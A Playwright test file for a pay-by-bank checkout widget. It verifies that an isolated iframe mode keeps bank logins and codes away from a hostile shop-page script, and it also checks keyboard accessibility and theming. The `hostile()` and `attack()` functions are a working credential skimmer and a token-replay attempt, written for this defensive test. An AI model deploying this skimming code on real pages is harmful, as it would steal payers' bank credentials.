/**
 * Why the isolated mode exists, shown in the shop: a hostile script in the shop's page (key
 * listeners on the document, a MutationObserver over everything, `attachShadow` forced open and
 * watched, input value getters and setters wrapped, `fetch`, `XMLHttpRequest` and every message
 * listened to) runs while payers type their bank's credentials and codes. With the checkout
 * isolated it captures none of them; inline, in the same page, it captures them all.
 *
 * Also here: a keyboard-only payment across the frame's boundary, axe inside the frame, and the
 * theme, the language and the events passing between the page and the frame.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { after, before, describe, it } from 'node:test';
import type { Frame, Locator, Page } from 'playwright-core';
import { act, checkoutFromCart, kit, merchantCheckout, openPage, startStack, type Stack } from './lib.js';

let stack: Stack;
before(async () => {
  stack = await startStack();
});
after(async () => {
  await stack?.close();
});

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

/** What payers type at two banks (the simulator's test values): login, second login, validation code. */
const JOURNEYS = [
  { bankId: 'aurora', login: ['12345678Z', '135790'], secondLogin: null, code: '482913' },
  { bankId: 'levante', login: ['X1234567L', '246810'], secondLogin: '731904', code: null },
] as const;
const CANARIES: string[] = JOURNEYS.flatMap((j) => [...j.login, ...(j.secondLogin ? [j.secondLogin] : []), ...(j.code ? [j.code] : [])]);

/**
 * The hostile script, run first in the shop's page (not in other origins' frames: no script of
 * the page can run there). It keeps everything it sees in `window.__stolen`.
 */
function hostile(): void {
  if (window.top !== window || location.pathname.startsWith('/v1/')) return;
  const stolen: string[] = [];
  (window as unknown as { __stolen: string[] }).__stolen = stolen;
  let keys = '';
  const keep = (kind: string, value: unknown) => {
    try {
      stolen.push(`${kind}: ${typeof value === 'string' ? value : JSON.stringify(value)}`);
    } catch {
      stolen.push(`${kind}: (unreadable)`);
    }
  };
  const valueOf = (t: EventTarget | null | undefined) => (t && 'value' in (t as object) ? String((t as HTMLInputElement).value) : null);
  const listen = (target: Document | ShadowRoot, where: string) => {
    for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'change', 'paste', 'submit', 'focusin']) {
      target.addEventListener(
        type,
        (e) => {
          if (e instanceof KeyboardEvent && type === 'keydown' && e.key.length === 1) keys += e.key;
          keep(`${where} ${type}`, [valueOf(e.composedPath()[0]), (e as InputEvent).data ?? null]);
        },
        true,
      );
    }
    new MutationObserver((records) => {
      for (const r of records) keep(`${where} mutation`, [r.target.nodeValue, valueOf(r.target), (r.target as Element).outerHTML?.slice(0, 4000)]);
    }).observe(target, { subtree: true, childList: true, attributes: true, characterData: true, characterDataOldValue: true, attributeOldValue: true });
  };
  listen(document, 'document');
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init: ShadowRootInit) {
    const root = attach.call(this, { ...init, mode: 'open' });
    listen(root, `shadow of ${this.localName}`);
    return root;
  };
  for (const proto of [HTMLInputElement.prototype, HTMLTextAreaElement.prototype]) {
    const d = Object.getOwnPropertyDescriptor(proto, 'value')!;
    Object.defineProperty(proto, 'value', {
      configurable: true,
      get(this: HTMLInputElement) {
        const v = d.get!.call(this);
        keep('value get', v);
        return v;
      },
      set(this: HTMLInputElement, v: string) {
        keep('value set', v);
        d.set!.call(this, v);
      },
    });
  }
  const realFetch = window.fetch;
  window.fetch = function (input: RequestInfo | URL, init?: RequestInit) {
    keep('fetch', [String(input instanceof Request ? input.url : input), typeof init?.body === 'string' ? init.body : null, init?.headers ?? null]);
    return realFetch.call(this, input, init).then((res) => {
      void res
        .clone()
        .text()
        .then((t) => keep('fetch answer', t));
      return res;
    });
  };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body?: Document | XMLHttpRequestBodyInit | null) {
    keep('xhr', typeof body === 'string' ? body : null);
    return send.call(this, body);
  };
  window.addEventListener('message', (e) => keep('message', e.data), true);
  const portPost = MessagePort.prototype.postMessage;
  const ports: MessagePort[] = ((window as unknown as { __ports: MessagePort[] }).__ports = []);
  MessagePort.prototype.postMessage = function (this: MessagePort, message: unknown, transfer?: Transferable[] | StructuredSerializeOptions) {
    if (!ports.includes(this)) ports.push(this);
    keep('port out', message);
    return portPost.call(this, message, transfer as StructuredSerializeOptions);
  } as MessagePort['postMessage'];
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage')!;
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    configurable: true,
    get: onmessage.get,
    set(this: MessagePort, fn: ((e: MessageEvent) => void) | null) {
      onmessage.set!.call(this, fn && ((e: MessageEvent) => (keep('port in', e.data), fn.call(this, e))));
    },
  });
  // And a sweep every 50 ms over every input it can reach (open shadow roots included).
  const sweep = (root: Document | ShadowRoot) => {
    for (const el of root.querySelectorAll('*')) {
      if (el instanceof HTMLInputElement && el.value) keep('sweep', el.value);
      if (el.shadowRoot) sweep(el.shadowRoot);
    }
  };
  setInterval(() => {
    sweep(document);
    keep('keys', keys);
  }, 50);
}

/** Pays one journey by typing, in the checkout under `root` (the frame's document, or the page's). */
async function payByTyping(page: Page, root: Locator, j: (typeof JOURNEYS)[number]): Promise<string> {
  await root.locator(`bank-selector [role=option]#bank-${j.bankId}`).click();
  const fields = root.locator('bank-login-form input:not([type=radio])');
  for (const [i, value] of j.login.entries()) await fields.nth(i).pressSequentially(value);
  let view = await act(page, stack, () => root.locator('bank-login-form').getByRole('button', { name: 'Sign in' }).click());
  if (j.secondLogin) {
    await root.locator('bank-second-login input').pressSequentially(j.secondLogin);
    view = await act(page, stack, () => root.locator('bank-second-login [part=submit]').click());
  }
  assert.equal(view.state, 'select-account');
  await root.locator('bank-account-picker input[type=radio]').first().check();
  view = await act(page, stack, () => root.locator('bank-account-picker button[type=submit]').click());
  assert.equal(view.state, 'validate');
  if (j.code) await root.locator('bank-challenge input').pressSequentially(j.code);
  else await root.locator('bank-challenge').getByRole('button', { name: 'Fill test values' }).click();
  view = await act(page, stack, () => root.locator('bank-challenge [part=submit]').click());
  return view.state;
}

describe('a hostile script in the shop page', () => {
  for (const inline of [false, true]) {
    it(
      inline
        ? 'captures every credential and code typed into the inline checkout (why the isolated mode exists)'
        : 'captures none of the credentials and codes typed into the isolated checkout',
      async () => {
        const { page, assertClean, close } = await openPage(stack);
        // As a page's own script: the function's text (with the helper the TypeScript loader names functions by).
        await page.addInitScript({ content: `var __name = (f) => f; (${hostile.toString()})();` });
        for (const j of JOURNEYS) {
          const id = await checkoutFromCart(page, stack, 'native');
          if (inline) await page.goto(`${page.url()}&embed=inline`);
          const root = inline ? page.locator(':root') : kit(page).locator(':root');
          assert.equal(await payByTyping(page, root, j), 'succeeded');
          // Inline, the shop shows the order as an inline checkout of its own (the weaker mode).
          if (!inline) assert.equal((await merchantCheckout(stack, id)).state, 'succeeded');
          const stolen = await page.evaluate(() => (window as unknown as { __stolen: string[] }).__stolen.join('\n'));
          assert.ok(stolen.length > 1000, 'the script ran and saw the page');
          const seen = CANARIES.filter((c) => stolen.includes(c));
          const typedHere = ([...j.login, j.secondLogin, j.code] as (string | null)[]).filter((c): c is string => !!c);
          if (inline)
            assert.deepEqual(
              typedHere.filter((c) => !seen.includes(c)),
              [],
              'inline, the script sees every value typed',
            );
          else assert.deepEqual(seen, [], 'isolated, the script sees none');
        }
        assertClean();
        await close();
      },
    );
  }
});

/**
 * The hostile script's second move, once the payer has signed in inside the frame: everything
 * it can find in the page (every attribute of every element, open shadow roots included, and
 * anything shaped like a credential among what it captured) tried against the BFF from the
 * page's origin, as a checkout credential and as a launch token; a second `init` to the frame
 * and through every port it saw; and a frame of its own given the launch token. Answers what
 * came back.
 */
async function attack(bff: string): Promise<{ what: string; status: number; body: string }[]> {
  const found = new Set<string>();
  const walk = (root: Document | ShadowRoot) => {
    for (const el of root.querySelectorAll('*')) {
      for (const a of el.getAttributeNames()) {
        const v = el.getAttribute(a) ?? '';
        if (v.length >= 16 && !/^https?:/.test(v)) found.add(v);
      }
      if (el.shadowRoot) walk(el.shadowRoot);
    }
  };
  walk(document);
  const stolen = (window as unknown as { __stolen: string[] }).__stolen.join('\n');
  for (const m of stolen.matchAll(/\b(?:lt|fk|cs)_[\w.-]{16,}/g)) found.add(m[0]);
  // What looks like a credential first (the page's own guard counts wrong ones per address).
  const likely = (v: string) => Number(/^(lt|fk|cs)_/.test(v));
  const candidates = [...found].sort((a, b) => likely(b) - likely(a)).slice(0, 8);
  const results: { what: string; status: number; body: string }[] = [];
  const attempt = async (what: string, url: string, init?: RequestInit) => {
    try {
      const res = await fetch(url, init);
      results.push({ what, status: res.status, body: await res.text() });
    } catch (err) {
      results.push({ what, status: 0, body: String(err) });
    }
  };
  for (const c of candidates) {
    for (const path of ['/v1/checkout', '/v1/banks'])
      await attempt(`GET ${path} with ${c.slice(0, 8)}…`, `${bff}${path}`, { headers: { 'X-Checkout-Secret': c } });
    await attempt(`redeem ${c.slice(0, 8)}…`, `${bff}/v1/frame/launch`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ token: c }),
    });
  }
  const host = document.querySelector('bank-checkout')!;
  const frame = host.shadowRoot!.querySelector('iframe')!;
  for (const c of candidates) {
    const channel = new MessageChannel();
    channel.port1.onmessage = (e) => results.push({ what: 'frame answered a second init', status: 200, body: JSON.stringify(e.data) });
    frame.contentWindow!.postMessage({ v: 1, type: 'init', token: c }, '*', [channel.port2]);
  }
  for (const port of (window as unknown as { __ports: MessagePort[] }).__ports) {
    port.postMessage({ v: 1, type: 'init', token: candidates[0] ?? 'x' });
    port.postMessage({ v: 1, type: 'focus' });
  }
  return results;
}

/** Where focus is: the page's active element, or inside the frame, the deepest one. */
async function focused(page: Page, frame: Frame): Promise<string> {
  const describe = () => {
    let el = document.activeElement;
    while (el?.shadowRoot?.activeElement) el = el.shadowRoot.activeElement;
    if (!el || el === document.body) return 'body';
    const label = el.getAttribute('aria-label') ?? (el as HTMLInputElement).labels?.[0]?.textContent ?? el.textContent ?? '';
    return `${el.localName}${el.getAttribute('type') ? `[type=${el.getAttribute('type')}]` : ''} ${label.trim().replace(/\s+/g, ' ').slice(0, 60)}`;
  };
  const top = await page.evaluate(describe);
  return top.startsWith('iframe') ? `frame: ${await frame.evaluate(describe)}` : top;
}

/** Presses Tab until focus matches (it may already). */
async function tabUntil(page: Page, frame: Frame, match: RegExp, max = 25): Promise<string> {
  const here = await focused(page, frame);
  if (match.test(here)) return here;
  const seen: string[] = [here];
  for (let i = 0; i < max; i++) {
    await page.keyboard.press('Tab');
    const now = await focused(page, frame);
    seen.push(now);
    if (match.test(now)) return now;
  }
  throw new Error(`Tab never reached ${match}; went through:\n${seen.join('\n')}`);
}

const checkoutFrame = async (page: Page): Promise<Frame> => {
  const handle = await page.locator('bank-checkout iframe').elementHandle();
  const frame = await handle!.contentFrame();
  assert.ok(frame, 'the checkout has its frame');
  return frame;
};

/**
 * axe over the page and the checkout's frame together (axe runs in both and joins them), so the
 * frame's content is judged as part of the page it is in. Answers the violations, and how many
 * of the nodes axe checked were inside the frame (to be sure it looked there).
 */
async function axeWithFrame(page: Page, frame: Frame): Promise<{ violations: string[]; inFrame: number }> {
  // axe talks to frames of its own origin only unless told otherwise; the frame is the BFF's.
  const allowFrames = () => (window as unknown as { axe: { configure: (c: object) => void } }).axe.configure({ allowedOrigins: ['<unsafe_all_origins>'] });
  for (const target of [frame, page]) {
    await target.evaluate(AXE);
    await target.evaluate(allowFrames);
  }
  return page.evaluate(async () => {
    type Result = { id: string; nodes: { target: (string | string[])[] }[] };
    const axe = (window as unknown as { axe: { run: (ctx: Document, opts: object) => Promise<{ violations: Result[]; passes: Result[] }> } }).axe;
    const result = await axe.run(document, { iframes: true, runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] });
    return {
      violations: result.violations.map((v) => `${v.id} at ${v.nodes.map((n) => JSON.stringify(n.target)).join(', ')}`),
      inFrame: result.passes.flatMap((p) => p.nodes).filter((n) => n.target.length > 1).length,
    };
  });
}

/**
 * axe inside the frame's own document, as assistive technology may present it (a page of its
 * own): the page-level rules too (a main landmark, a level-one heading, content in landmarks).
 */
async function axeInFrame(frame: Frame): Promise<string[]> {
  await frame.evaluate(AXE);
  return frame.evaluate(async () => {
    type Result = { id: string; nodes: { target: unknown[] }[] };
    const axe = (window as unknown as { axe: { run: (ctx: Document, opts: object) => Promise<{ violations: Result[] }> } }).axe;
    const result = await axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] });
    return result.violations.map((v) => `${v.id} at ${v.nodes.map((n) => JSON.stringify(n.target)).join(', ')}`);
  });
}

describe('a hostile script that waits for the payer to sign in', () => {
  it('reads nothing of the bank session with whatever it finds in the page, and the payer pays on', async () => {
    const { page, assertClean, close } = await openPage(stack);
    await page.addInitScript({ content: `var __name = (f) => f; (${hostile.toString()})();` });
    const id = await checkoutFromCart(page, stack, 'native');
    const ui = kit(page);
    const j = JOURNEYS[0];
    await ui.locator(`bank-selector [role=option]#bank-${j.bankId}`).click();
    const fields = ui.locator('bank-login-form input:not([type=radio])');
    for (const [i, value] of j.login.entries()) await fields.nth(i).pressSequentially(value);
    const signedIn = await act(page, stack, () => ui.locator('bank-login-form').getByRole('button', { name: 'Sign in' }).click());
    assert.equal(signedIn.state, 'select-account');
    // The bank session: the accounts the payer's bank listed, as the frame shows them.
    const accounts = signedIn.step.state === 'select-account' ? signedIn.step.accounts.map((a) => a.info) : [];
    assert.ok(accounts.length > 0);

    // As a page's own script: the function's text (with the helper the TypeScript loader names functions by).
    const results = (await page.evaluate(`var __name = (f) => f; (${attack.toString()})(${JSON.stringify(stack.urls.bff)})`)) as Awaited<
      ReturnType<typeof attack>
    >;
    assert.ok(results.length >= 6, `the script tried what it found: ${results.map((r) => r.what).join(', ')}`);
    assert.ok(
      results.some((r) => r.what.startsWith('redeem lt_')),
      'the launch token was among what it found',
    );
    for (const r of results) {
      assert.notEqual(r.status, 200, `${r.what} answered ${r.body.slice(0, 200)}`);
      for (const a of accounts) assert.ok(!r.body.includes(a), `${r.what} showed an account`);
    }
    // No redemption from the page's origin: the browser does not even send it (no CORS for it), or the BFF says 403.
    assert.ok(
      results.filter((r) => r.what.startsWith('redeem')).every((r) => r.status === 0 || r.status === 403),
      JSON.stringify(results.filter((r) => r.what.startsWith('redeem'))),
    );

    // The payer goes on in the frame, undisturbed.
    await ui.locator('bank-account-picker input[type=radio]').first().check();
    assert.equal((await act(page, stack, () => ui.locator('bank-account-picker button[type=submit]').click())).state, 'validate');
    await ui.locator('bank-challenge input').pressSequentially(j.code!);
    assert.equal((await act(page, stack, () => ui.locator('bank-challenge [part=submit]').click())).state, 'succeeded');
    assert.equal((await merchantCheckout(stack, id)).state, 'succeeded');

    const stolen = await page.evaluate(() => (window as unknown as { __stolen: string[] }).__stolen.join('\n'));
    assert.deepEqual(
      CANARIES.filter((c) => stolen.includes(c)),
      [],
      'no password or code',
    );
    assert.deepEqual(
      accounts.filter((a) => stolen.includes(a)),
      [],
      'no account',
    );
    const refused = (await merchantCheckout(stack, id)) as { launch?: { refusals: number } };
    assert.equal(refused.launch?.refusals, 0, 'the launch token was never presented again at the BFF');
    // What the browser logs of the script's refused calls.
    assertClean([
      /Failed to load resource: the server responded with a status of (401|403)/,
      /blocked by CORS policy/,
      /Failed to load resource: net::ERR_FAILED/,
    ]);
    await close();
  });
});

describe('the isolated checkout', () => {
  it('is paid with the keyboard alone, from the page into the frame and back, axe clean inside at every step', async () => {
    const { page, assertClean, close } = await openPage(stack);
    const id = await checkoutFromCart(page, stack, 'native');
    const ui = kit(page);
    await ui.locator('bank-selector [role=option]').first().waitFor();
    const frame = await checkoutFrame(page);
    assert.equal(await page.locator('bank-checkout iframe').getAttribute('title'), 'Pay by bank');
    // "Pay by bank" is a heading once: the frame's own (its document's level one), not the shop's too.
    assert.equal(await page.getByRole('heading', { name: 'Pay by bank' }).count(), 0);
    assert.equal(await ui.getByRole('heading', { level: 1, name: 'Pay by bank' }).count(), 1);
    const violations: string[] = [];
    const check = async (step: string) => {
      const { violations: found, inFrame } = await axeWithFrame(page, frame);
      assert.ok(inFrame > 10, `${step}: axe checked the frame's content (${inFrame} nodes)`);
      violations.push(...found.map((v) => `${step}: ${v}`));
      violations.push(...(await axeInFrame(frame)).map((v) => `${step}, the frame alone: ${v}`));
    };
    await check('bank list');

    await page.locator('#checkout-language').focus();
    await tabUntil(page, frame, /^frame: input.* Search your bank/);
    await page.keyboard.type('Aurora');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await ui.locator('bank-login-form').waitFor();
    await check('login');
    await tabUntil(page, frame, /^frame: input\[type=text\]/);
    await page.keyboard.type('12345678Z');
    await page.keyboard.press('Tab');
    await page.keyboard.type('135790');
    await act(page, stack, () => page.keyboard.press('Enter'));
    await ui.locator('bank-account-picker').waitFor();
    await check('accounts');
    await tabUntil(page, frame, /^frame: input\[type=radio\]/);
    await page.keyboard.press('Space');
    await tabUntil(page, frame, /^frame: button\[type=submit\]/);
    await act(page, stack, () => page.keyboard.press('Enter'));
    await ui.locator('bank-challenge input').waitFor();
    await check('validation');
    await tabUntil(page, frame, /^frame: input/);
    await page.keyboard.type('482913');
    const last = await act(page, stack, () => page.keyboard.press('Enter'));
    assert.equal(last.state, 'succeeded');
    await ui.locator('bank-result [part=title]').waitFor();
    await check('result');
    assert.equal((await merchantCheckout(stack, id)).state, 'succeeded');

    // After the result, the next Tab leaves the frame for the shop's own link to the order.
    await page.locator('#after').waitFor();
    await tabUntil(page, frame, /^a .*your order/i);
    assert.deepEqual(violations, []);
    assertClean();
    await close();
  });
});

describe('across the frame boundary', () => {
  it('passes the theme and the language in at runtime, and the events out as the inline element fires them', async () => {
    const { page, assertClean, close } = await openPage(stack);
    await page.addInitScript({
      content: `window.__events = []; for (const t of ['bank-checkout-step', 'bank-checkout-complete', 'bank-checkout-error']) document.addEventListener(t, (e) => window.__events.push([t, e.target.localName, e.composed, e.bubbles, e.detail]));`,
    });
    await checkoutFromCart(page, stack, 'native');
    const ui = kit(page);
    await ui.locator('bank-selector [role=option]').first().waitFor();
    const primary = () => ui.locator('bank-checkout').evaluate((el) => getComputedStyle(el).getPropertyValue('--bank-color-primary').trim());
    assert.equal(await primary(), '#1f4f8f', "the shop's own primary colour, read on the host");

    await page.locator('bank-checkout').evaluate((el) => el.style.setProperty('--bank-color-primary', 'rgb(120, 20, 60)'));
    await expectSoon(() => primary(), 'rgb(120, 20, 60)');
    // A theme that would hide the amount and the payee is refused by the frame, with a warning on the host.
    const warnings: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'warning') warnings.push(m.text());
    });
    await page.locator('bank-checkout').evaluate((el) => {
      el.style.setProperty('--bank-color-text', 'transparent');
      el.style.setProperty('--bank-font-size', '0px');
    });
    await expectSoon(async () => warnings.some((w) => w.includes('--bank-font-size')) && warnings.some((w) => w.includes('--bank-color-text')), true);
    const applied = await ui.locator('html').evaluate((el) => [el.style.getPropertyValue('--bank-color-text'), el.style.getPropertyValue('--bank-font-size')]);
    assert.deepEqual(applied, ['', ''], 'never applied in the frame');
    const amount = ui.locator('bank-checkout [part=amount]');
    assert.notEqual(await amount.evaluate((el) => getComputedStyle(el).color), 'rgba(0, 0, 0, 0)');
    assert.ok((await amount.evaluate((el) => parseFloat(getComputedStyle(el).fontSize))) >= 12, 'the amount stays readable');
    assert.equal(await primary(), 'rgb(120, 20, 60)', 'what passes the floor still applies');
    await page.locator('bank-checkout').evaluate((el) => {
      el.style.removeProperty('--bank-color-text');
      el.style.removeProperty('--bank-font-size');
    });
    // Only the kit's own properties cross; anything else set on the host stays outside.
    await page.locator('bank-checkout').evaluate((el) => el.style.setProperty('--other', 'url(https://evil.example/x)'));
    assert.equal(await ui.locator('html').evaluate((el) => el.style.getPropertyValue('--other')), '');

    // The host's focus() moves focus into the frame, to the current step.
    await page.locator('bank-checkout').evaluate((el) => el.focus());
    assert.match(await focused(page, await checkoutFrame(page)), /^frame: h2 Choose your bank/);

    await page.getByLabel('Language of the payment').selectOption('es');
    await ui.getByRole('heading', { name: 'Elige tu banco' }).waitFor();
    await page.getByLabel('Language of the payment').selectOption('gl');
    await ui.locator('bank-checkout [part=base][lang=gl]').waitFor();
    // The frame's document speaks it too: its language and its (unseen) heading.
    await ui.locator('html[lang=gl]').waitFor({ state: 'attached' });
    assert.equal(await ui.locator('main > h1').textContent(), 'Pagar co teu banco');

    await ui.locator('bank-checkout [part=cancel]').getByRole('button').click();
    await act(page, stack, () => ui.locator('bank-checkout [part=cancel]').getByRole('button').first().click());
    await ui.locator('bank-result [part=title]').waitFor();
    const events = await page.evaluate(() => (window as unknown as { __events: [string, string, boolean, boolean, Record<string, unknown>][] }).__events);
    const [first] = events;
    assert.deepEqual(first?.slice(0, 4), ['bank-checkout-step', 'bank-checkout', true, true]);
    assert.equal(first?.[4].state, 'select-bank');
    const complete = events.find((e) => e[0] === 'bank-checkout-complete');
    assert.deepEqual(complete?.[4], { checkoutId: first?.[4].checkoutId, outcome: 'cancelled', code: 'cancelled' });
    assert.ok(!JSON.stringify(events).includes('cs_'), 'no event carries the client secret');
    assertClean();
    await close();
  });
});

async function expectSoon<T>(read: () => Promise<T>, want: T, ms = 3000): Promise<void> {
  const until = Date.now() + ms;
  let got = await read();
  while (got !== want && Date.now() < until) {
    await new Promise((r) => setTimeout(r, 50));
    got = await read();
  }
  assert.equal(got, want);
}
